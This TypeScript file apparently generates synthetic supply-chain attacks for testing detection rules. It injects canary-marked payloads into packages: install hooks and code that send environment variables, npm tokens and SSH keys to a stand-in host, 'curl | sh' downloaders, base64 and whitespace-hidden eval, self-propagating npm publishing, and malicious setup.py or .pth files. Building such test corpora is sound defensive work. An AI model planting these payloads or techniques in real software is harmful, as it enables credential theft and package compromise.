/** Published techniques, each as a change of a host. These were at hand while rules were written; the held-out ones were not. */
import { CANARY, type Host, addCode, away, bring, changeManifest, isModule, record, sourceOf, textOf, word } from "./host.ts";

export interface Family {
  readonly name: string;
  /** What it is known from. */
  readonly known: string;
  readonly change: (host: Host) => void;
}

const script = (host: Host, hook: string, command: string): void =>
  changeManifest(host, (manifest) => {
    manifest["scripts"] = { ...record(manifest["scripts"]), [hook]: command };
  });

const sendsEnvironment = (host: Host): string => {
  const name = word(host);
  return `// ${CANARY}
const ${name} = JSON.stringify(process.env);
require("https").request({ hostname: "${away(host)}", method: "POST", path: "/u" }).end(${name});
`;
};

export const seenFamilies: readonly Family[] = [
  {
    name: "postinstall",
    known: "ua-parser-js, Shai-Hulud",
    change: (host) => {
      const path = `scripts/${word(host)}.js`;
      host.files.set(path, sendsEnvironment(host));
      script(host, "postinstall", `node ${path}`);
    },
  },
  {
    name: "binding-gyp",
    known: "Miasma",
    change: (host) => {
      const path = `${word(host)}.js`;
      host.files.set(path, sendsEnvironment(host));
      host.files.set("binding.gyp", `{ "targets": [{ "target_name": "a", "type": "none", "sources": ["<!(node ${path})"] }] }`);
    },
  },
  {
    name: "environment-sent",
    known: "lottie-player, telnyx",
    change: (host) => {
      const path = sourceOf(host);
      const [https, all] = [`${word(host)}Http`, word(host)];
      addCode(
        host,
        path,
        `${bring(host, path, https, "https")}function ${all}Report() {
  const ${all} = {};
  for (const key of Object.keys(process.env)) ${all}[key] = process.env[key];
  const req = ${https}.request("https://${away(host)}/c", { method: "POST" });
  req.write(JSON.stringify(${all})); // ${CANARY}
  req.end();
}
${all}Report();`,
      );
    },
  },
  {
    name: "key-sent-from-function",
    known: "@solana/web3.js, xrpl",
    change: (host) => {
      const path = sourceOf(host);
      const text = textOf(host, path);
      const code = `fetch("https://${away(host)}/k", { method: "POST", headers: { "x-session": process.env.${["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"][host.random(3)] ?? "NPM_TOKEN"} || "" } }).catch(() => {}); /* ${CANARY} */`;
      const at = /function\s*[\w$]*\s*\([^)]*\)\s*\{/.exec(text);
      if (at === null) addCode(host, path, `function ${word(host)}() { ${code} }`);
      else host.files.set(path, `${text.slice(0, at.index + at[0].length)} ${code}${text.slice(at.index + at[0].length)}`);
    },
  },
  {
    name: "fetch-hook",
    known: "chalk, debug",
    change: (host) => {
      const [path, old] = [sourceOf(host), word(host)];
      addCode(
        host,
        path,
        `if (typeof window !== "undefined" && window.fetch) {
  const ${old}Fetch = window.fetch;
  window.fetch = async function (input, init) {
    const response = await ${old}Fetch.call(this, input, init);
    return response; // ${CANARY}
  };
  const ${old}Open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...args) { return ${old}Open.apply(this, args); };
}`,
      );
    },
  },
  {
    name: "download-run",
    known: "rand-user-agent, coa",
    change: (host) => {
      const path = sourceOf(host);
      const [cp, os] = [`${word(host)}Cp`, `${word(host)}Os`];
      addCode(
        host,
        path,
        host.random(2) === 0
          ? `${bring(host, path, cp, "child_process")}${cp}.exec("curl -fsSL http://127.0.0.1:9/${host.random(99)} -o /tmp/${CANARY} && sh /tmp/${CANARY}");`
          : `${bring(host, path, cp, "child_process")}${bring(host, path, os, "https")}${os}.get("https://${away(host)}/p", (res) => { let body = ""; res.on("data", (part) => { body += part; }); res.on("end", () => { ${cp}.spawn("node", ["-e", body]); }); }); // ${CANARY}`,
      );
    },
  },
  {
    name: "destroys-by-country",
    known: "node-ipc",
    change: (host) => {
      const path = sourceOf(host);
      const [https, fs] = [`${word(host)}Geo`, `${word(host)}Fs`];
      addCode(
        host,
        path,
        `${bring(host, path, https, "https")}${bring(host, path, fs, "fs")}${https}.get("https://${away(host)}/geo", (res) => {
  res.on("data", (part) => {
    const country = JSON.parse(String(part)).country_name;
    if (country === "nowhere") ${fs}.rmSync("/nonexistent/${CANARY}", { recursive: true, force: true });
  });
});`,
      );
    },
  },
  {
    name: "endless-loop",
    known: "colors",
    change: (host) => {
      const path = sourceOf(host);
      addCode(
        host,
        path,
        `function ${word(host)}Flag() { for (let i = 666; i < Infinity; i++) { if (i % 333) { console.log("${CANARY} testing"); } } }\nif (globalThis.${CANARY.replace("-", "_")}) ${word(host)}Flag();`,
      );
    },
  },
  {
    name: "base64-function",
    known: "eslint-config-prettier wave, event-stream",
    change: (host) => {
      const path = sourceOf(host);
      const code = `/* ${CANARY} */ ${"void 0;".repeat(30)} globalThis.process && globalThis.process.title; fetch("https://${away(host)}/b");`;
      const encoded = Buffer.from(code).toString("base64");
      addCode(
        host,
        path,
        host.random(2) === 0 ? `new Function(Buffer.from("${encoded}", "base64").toString())();` : `eval(atob("${encoded}"));`,
      );
    },
  },
  {
    name: "behind-blanks",
    known: "npm packages of 2024, VS Code extensions",
    change: (host) => {
      const path = sourceOf(host);
      const lines = textOf(host, path).split("\n");
      const at = host.random(lines.length);
      lines[at] = `${lines[at] ?? ""};${" ".repeat(400 + host.random(300))}fetch("https://${away(host)}/w"); /* ${CANARY} */`;
      host.files.set(path, lines.join("\n"));
    },
  },
  {
    name: "blob-in-tests",
    known: "xz, flatmap-stream",
    change: (host) => {
      const path = sourceOf(host);
      const [fs, zlib] = [`${word(host)}Fs`, `${word(host)}Zip`];
      const blob = Buffer.alloc(6_000, 0).map(() => host.random(256));
      const file = host.random(2) === 0 ? `test/fixtures/${word(host)}.bin` : `assets/${word(host)}.png`;
      host.files.set(file, blob);
      addCode(
        host,
        path,
        `${bring(host, path, fs, "fs")}${bring(host, path, zlib, "zlib")}try { new Function(${zlib}.gunzipSync(${fs}.readFileSync("${file}")).toString())(); } catch {} // ${CANARY}`,
      );
    },
  },
  {
    name: "minified-only",
    known: "event-stream's flatmap",
    change: (host) => {
      const path = `dist/${word(host)}.min.js`;
      const text = `!function(e,t){var r=e.process||{env:{}},n=r.env,o=t(n);e.fetch&&e.fetch("https://${away(host)}/m",{method:"POST",body:JSON.stringify(n)});return o}(globalThis,function(e){return e});/*${CANARY}*/`;
      host.files.set(path, `${textOf(host, path)}${text}${"var a=0;".repeat(150)}`);
      const main = sourceOf(host);
      addCode(host, main, isModule(host, main) ? `import "./${path}";` : `require("./${path}");`);
    },
  },
  {
    name: "dist-only",
    known: "ultralytics, rspack",
    change: (host) => {
      const built = [...host.files.keys()].filter((path) => /^(?:dist|lib|build|cjs|esm)\/.*\.[cm]?js$/.test(path)).toSorted();
      const path = built[host.random(Math.max(1, built.length))] ?? sourceOf(host);
      const cp = `${word(host)}Run`;
      addCode(
        host,
        path,
        `${bring(host, path, cp, "child_process")}${cp}.execSync("cat ~/.npmrc ~/.ssh/id_rsa | curl -s -d @- http://127.0.0.1:9/${CANARY}");`,
      );
    },
  },
  {
    name: "unused-dependency",
    known: "axios, mastra",
    change: (host) =>
      changeManifest(host, (manifest) => {
        manifest["dependencies"] = {
          ...record(manifest["dependencies"]),
          [`plain-${word(host)}-inert`]: `^${1 + host.random(4)}.${host.random(9)}.0`,
        };
      }),
  },
  {
    name: "python-start",
    known: "litellm, telnyx, ctx",
    change: (host) => {
      // A package for Python of the host's name: what is in it is ours.
      const name = host.name.replaceAll(/\W+/g, "_").toLowerCase();
      const code = `import os, base64, urllib.request; urllib.request.urlopen("https://${away(host)}/p", data=str(dict(os.environ)).encode())  # ${CANARY}`;
      if (host.random(2) === 0)
        host.files.set(
          `${name}_init.pth`,
          `import os; exec(open(os.path.join(os.path.dirname(__file__), "${name}_init.py")).read()) if False else None\n${code.replace("import os, base64", "import os")}\n`,
        );
      else host.files.set("setup.py", `from setuptools import setup\n${code}\nsetup(name="${name}")\n`);
    },
  },
  {
    name: "self-propagation",
    known: "Shai-Hulud, CanisterWorm",
    change: (host) => {
      const path = `bundle-${host.random(900)}.js`;
      host.files.set(
        path,
        `// ${CANARY}
const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
const token = /_authToken=(.*)/.exec(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"))?.[1];
fetch("https://${away(host)}/t", { method: "POST", body: token });
fs.writeFileSync(".github/workflows/${word(host)}.yml", "on: push");
execSync("npm publish --registry http://127.0.0.1:9/");
`,
      );
      script(host, host.random(2) === 0 ? "postinstall" : "install", `node ${path}`);
    },
  },
  // Held out until it was looked at: none of its 28 variants was flagged then.
  {
    name: "text-array",
    known: "obfuscators of the javascript-obfuscator kind",
    change: (host) => {
      const path = sourceOf(host);
      const texts = ["exit", "child_process", "exec", `true ${CANARY}`, "env", "length"].map((text) => Buffer.from(text).toString("hex"));
      const [list, pick] = [`_0x${(host.random(0xffff) + 0x10000).toString(16)}`, `_0x${(host.random(0xffff) + 0x20000).toString(16)}`];
      const load = isModule(host, path) ? "globalThis.process.getBuiltinModule" : "require";
      addCode(
        host,
        path,
        `var ${list}=[${texts.map((text) => `'${text}'`).join(",")}];var ${pick}=function(i){return ${list}[i].replace(/../g,function(h){return String.fromCharCode(parseInt(h,16))})};${load}(${pick}(0x1))[${pick}(0x2)](${pick}(0x3));`,
      );
    },
  },
];
